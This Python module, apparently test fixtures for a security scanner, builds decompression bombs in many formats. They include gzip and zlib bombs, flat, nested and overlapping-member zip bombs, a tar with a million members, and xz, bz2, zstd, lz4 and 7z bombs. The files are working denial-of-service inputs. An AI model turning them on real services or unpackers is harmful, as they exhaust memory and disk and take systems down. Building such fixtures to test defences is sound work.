"""hostile.py: bombs: little that unpacks to much, made without unpacking it."""

import bz2
import gzip
import lzma
import os
import struct
import subprocess
import tempfile
import zlib

from hidden_writers import TIMEOUT, run

MIB = 1 << 20
ZEROS = bytes(MIB)


def times_matrix(matrix, vector):
    result = 0
    for row in matrix:
        if vector & 1:
            result ^= row
        vector >>= 1
    return result


def crc_after_zeros(crc, count):
    """The CRC-32 register after `count` more zero bytes."""
    matrix = [0xedb88320] + [1 << i for i in range(31)]  # one bit
    for _ in range(3):
        matrix = [times_matrix(matrix, row) for row in matrix]
    while count:
        if count & 1:
            crc = times_matrix(matrix, crc)
        matrix = [times_matrix(matrix, row) for row in matrix]
        count >>= 1
    return crc


def crc_of(block, times):
    """The CRC-32 of a block that comes again and again."""
    if times == 1:
        return zlib.crc32(block)
    half = crc_of(block, times // 2)
    crc = crc_after_zeros(half, len(block) * (times // 2)) ^ half
    return zlib.crc32(block, crc) if times % 2 else crc


def deflated(block, times):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return once * times + b"\3\0"


def gz_bomb(block=ZEROS, times=1 << 10):
    """A gibibyte in a mebibyte."""
    return (b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + deflated(block, times)
            + struct.pack("<2I", crc_of(block, times),
                          len(block) * times & 0xffffffff))


def zlib_bomb(times=1 << 10):
    size = MIB * times % 65521
    return b"\x78\xda" + deflated(ZEROS, times) + struct.pack(">2H", size, 1)


class Entry:
    """A deflated member of a zip."""

    def __init__(self, name, data, crc, size):
        self.name, self.data, self.crc, self.size = name, data, crc, size

    def local(self):
        extra = self.extra()
        return struct.pack("<I5H3I2H", 0x04034b50, 45, 0, 8, 0, 0x5b75,
                           self.crc, 0xffffffff, 0xffffffff, len(self.name),
                           len(extra)) + self.name + extra + self.data

    def central(self, offset):
        extra = self.extra()
        return struct.pack("<I6H3I5H2I", 0x02014b50, 45, 45, 0, 8, 0, 0x5b75,
                           self.crc, 0xffffffff, 0xffffffff, len(self.name),
                           len(extra), 0, 0, 0, 0, offset
                           ) + self.name + extra

    def extra(self):
        return struct.pack("<2H2Q", 1, 16, self.size, len(self.data))


def zip_entry(name, block, times=1):
    return Entry(name, deflated(block, times), crc_of(block, times),
                 len(block) * times)


def zip_end(n, size, offset):
    return struct.pack("<I4H2IH", 0x06054b50, 0, 0, n, n, size, offset, 0)


def zip_of_entries(entries):
    body, directory = b"", b""
    for entry in entries:
        directory += entry.central(len(body))
        body += entry.local()
    return body + directory + zip_end(len(entries), len(directory), len(body))


def flat_zip(gibibytes):
    """All in one member."""
    return zip_of_entries([zip_entry(b"zeros", ZEROS, gibibytes << 10)])


def nested_zip(levels=5, copies=16):
    """Each level holds the one below 16 times."""
    data = zip_of_entries([zip_entry(b"zeros", ZEROS, 4 << 10)])
    for _ in range(levels):
        data = zip_of_entries([zip_entry(b"%d.zip" % i, data)
                               for i in range(copies)])
    return data


def overlapping_zip(n=200):
    """Each member's bytes hold, quoted, all the members behind it: the last is
    of 64 MiB, and so are all."""
    entry = zip_entry(b"%05d" % n, ZEROS, 64)
    entries = [entry]
    for i in reversed(range(n)):
        head = entry.local()[:-len(entry.data)]
        size = len(head) + entry.size
        crc = crc_after_zeros(zlib.crc32(head), entry.size) ^ entry.crc
        quote = struct.pack("<BHH", 0, len(head), len(head) ^ 0xffff)
        entry = Entry(b"%05d" % i, quote + head + entry.data, crc, size)
        entries.append(entry)
    body, directory, offset = entry.local(), b"", 0
    for entry in reversed(entries):
        directory += entry.central(offset)
        offset += len(entry.local()) - len(entry.data) + 5
    return body + directory + zip_end(n + 1, len(directory), len(body))


def tar_header(size):
    head = bytearray(512)
    head[:4] = b"name"
    head[100:108], head[108:116], head[116:124] = (
        b"0000644\0", b"0000000\0", b"0000000\0")
    head[124:136], head[136:148] = b"%011o\0" % size, b"00000000000\0"
    head[148:156], head[156:157] = b" " * 8, b"0"
    head[257:265] = b"ustar\00000"
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head)


def small_members(content=b""):
    """A tar of 1,048,576 members, compressed."""
    block = tar_header(len(content)) + content
    block += b"\0" * (-len(block) % 512)
    return gz_bomb(block * 1024, 1024)


def xz_bomb():
    return lzma.compress(ZEROS * 16) * 64


def bz2_bomb():
    return bz2.compress(ZEROS * 16) * 64


def zstd_bomb():
    return run(["zstd", "-q", "-c"], ZEROS * 16) * 64


def lz4_bomb():
    return run(["lz4", "-q", "-c"], ZEROS * 16) * 16


def seven_zip_bomb():
    """Half a gigabyte, of a file that takes no room."""
    with tempfile.TemporaryDirectory(prefix="secscan-test-") as folder:
        with open(os.path.join(folder, "zeros"), "wb") as file:
            file.truncate(512 * MIB)
        subprocess.run(["7z", "a", "-bd", "-mx=1", "a.7z", "zeros"],
                       cwd=folder, check=True, timeout=TIMEOUT,
                       stdout=subprocess.DEVNULL)
        with open(os.path.join(folder, "a.7z"), "rb") as file:
            return file.read()


def nested_gz(depth, data=b"nothing here\n"):
    for _ in range(depth):
        data = gzip.compress(data, mtime=0)
    return data
